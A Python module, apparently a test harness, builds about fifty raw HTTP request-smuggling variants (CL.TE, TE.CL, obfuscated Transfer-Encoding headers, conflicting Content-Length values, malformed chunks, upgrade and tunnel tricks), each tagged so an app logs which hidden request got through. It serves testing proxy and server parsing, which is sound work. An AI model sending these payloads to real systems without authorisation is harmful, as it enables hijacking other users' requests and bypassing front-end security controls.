"""Requests with another one hidden in them: https://portswigger.net/web-security/request-smuggling

A proxy and a server that disagree on where a request ends take a part of one client's request for another's.
"""

END = "0\r\n\r\n"


def attempts(host):
    """
    Return the ways to hide a request: name to the bytes of a connection, decoded as latin-1.

    A request of way number 7 makes the app log ``smuggled-7-outer``, ``-hidden`` or ``-after``.
    """
    return {way: _Attempt(host, number).text(**made) for number, (way, made) in enumerate(WAYS.items())}


class _Attempt:
    def __init__(self, host, number):
        self.host = host
        self.number = number

    def request(self, who, line="{method} {target} {version}", method="GET", version="HTTP/1.1", host="{host}"):
        target = f"/?do=say&word=smuggled-{self.number}-{who}"
        start = line.format(method=method, target=target, version=version, host=self.host)
        return f"{start}\r\nHost: {host.format(host=self.host)}\r\n"

    def text(self, headers="", body="", method="POST", **line):
        """One of such headers and body, in which {hidden} is another request and {length} the body's; and one after it."""
        hidden = self.request("hidden") + "\r\n"
        body = body.replace("{size}", f"{len(hidden):x}").replace("{hidden}", hidden)
        headers = headers.replace("{length}", str(len(body)))
        after = self.request("after") + "Connection: close\r\n\r\n"
        return f"{self.request('outer', method=method, **line)}{headers}\r\n{body}{after}"


def _either(transfer_encoding, **more):
    """Return a body that ends at once for a reader of chunks, and later for a reader of Content-Length."""
    return {"headers": f"{transfer_encoding}\r\nContent-Length: {{length}}\r\n", "body": END + "{hidden}", **more}


def _chunks(body, **more):
    return {"headers": "Transfer-Encoding: chunked\r\n", "body": body, **more}


WAYS = {
    "none": {"headers": "Content-Length: {length}\r\n", "body": "{hidden}"},
    "CL.TE": _either("Transfer-Encoding: chunked"),
    "TE.CL": {
        "headers": "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n",
        "body": "{size}\r\n{hidden}\r\n" + END,
    },
    # TE.TE: who takes what for chunked?
    "another coding": _either("Transfer-Encoding: xchunked"),
    "a list of codings": _either("Transfer-Encoding: identity, chunked"),
    "a list that ends otherwise": _either("Transfer-Encoding: chunked, identity"),
    "two codings": _either("Transfer-Encoding: chunked\r\nTransfer-Encoding: x"),
    "a space before the colon": _either("Transfer-Encoding : chunked"),
    "a space before the name": _either(" Transfer-Encoding: chunked"),
    "a tab": _either("Transfer-Encoding:\tchunked"),
    "a vertical tab": _either("Transfer-Encoding: \x0bchunked"),
    "an underscore": _either("Transfer_Encoding: chunked"),
    "quotes": _either('Transfer-Encoding: "chunked"'),
    "a folded value": _either("Transfer-Encoding:\r\n chunked"),
    "a folded header": _either("X-Folded: a\r\n Transfer-Encoding: chunked"),
    "a bare line feed": _either("X-Bare: a\nTransfer-Encoding: chunked"),
    "a bare carriage return": _either("X-Bare: a\rTransfer-Encoding: chunked"),
    "NUL": _either("X-Nul: a\0\r\nTransfer-Encoding: chunked"),
    "NUL in a name": _either("Transfer-Encoding\0: chunked"),
    "NUL in a value": _either("Transfer-Encoding: chunked\0"),
    "HTTP/1.0": _either("Transfer-Encoding: chunked", version="HTTP/1.0"),
    "HTTP/1.0 without a length": _chunks(END, version="HTTP/1.0"),
    # How long is it?
    "two lengths": {"headers": "Content-Length: 0\r\nContent-Length: {length}\r\n", "body": "{hidden}"},
    "two lengths, the other way": {"headers": "Content-Length: {length}\r\nContent-Length: 0\r\n", "body": "{hidden}"},
    "a list of lengths": {"headers": "Content-Length: {length}, 0\r\n", "body": "{hidden}"},
    "a length with a sign": {"headers": "Content-Length: +{length}\r\n", "body": "{hidden}"},
    "a negative length": {"headers": "Content-Length: -1\r\n", "body": "{hidden}"},
    "a length in hexadecimal": {"headers": "Content-Length: 0x0\r\n", "body": "{hidden}"},
    "a length and a space": {"headers": "Content-Length : {length}\r\n", "body": "{hidden}"},
    "a length that is not to be passed on": {
        "headers": "Connection: Content-Length\r\nContent-Length: {length}\r\n",
        "body": "{hidden}",
    },
    "a GET with a body": {"method": "GET", "headers": "Content-Length: {length}\r\n", "body": "{hidden}"},
    "a DELETE with a body": {"method": "DELETE", "headers": "Content-Length: {length}\r\n", "body": "{hidden}"},
    "a body that is waited for": {
        "headers": "Expect: 100-continue, 100-continue\r\nContent-Length: {length}\r\n",
        "body": "{hidden}",
    },
    # Where does a chunk end?
    "an extension of a chunk": _chunks("5;a=b\r\nhello\r\n" + END),
    "an extension that ends otherwise": _chunks("5;\nhello\r\n0;\n\r\n{hidden}"),
    "an extension with a chunk in it": _chunks("2;\nxx\r\n{size}\r\n{hidden}\r\n" + END),
    "a chunk that is too large": _chunks("ffffffffffffffff1\r\n{hidden}\r\n" + END),
    "a chunk of a large size": _chunks("100000005\r\nhello\r\n" + END + "{hidden}"),
    "a chunk with a sign": _chunks("+5\r\nhello\r\n" + END + "{hidden}"),
    "a chunk of 0x": _chunks("0x5\r\nhello\r\n" + END + "{hidden}"),
    "a chunk and a space": _chunks("5 \r\nhello\r\n" + END),
    "a chunk that is longer than it says": _chunks("5\r\nhello!\r\n" + END + "{hidden}"),
    "chunks with bare line feeds": _chunks("5\nhello\n0\n\n{hidden}"),
    "headers at the end": _chunks("5\r\nhello\r\n0\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n"),
    # What is asked of whom?
    "a whole URL": {"line": "{method} http://{host}{target} {version}", "host": "other.example.com"},
    "a whole URL of another": {"line": "{method} http://other.example.com{target} {version}"},
    "two hosts": {"headers": "Host: other.example.com\r\n"},
    "a tunnel": {"line": "CONNECT {host}:80 {version}"},
    "another protocol": {
        "headers": "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n"
    },
    "a WebSocket of no version": {
        "method": "GET",
        "headers": "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n",
    },
}
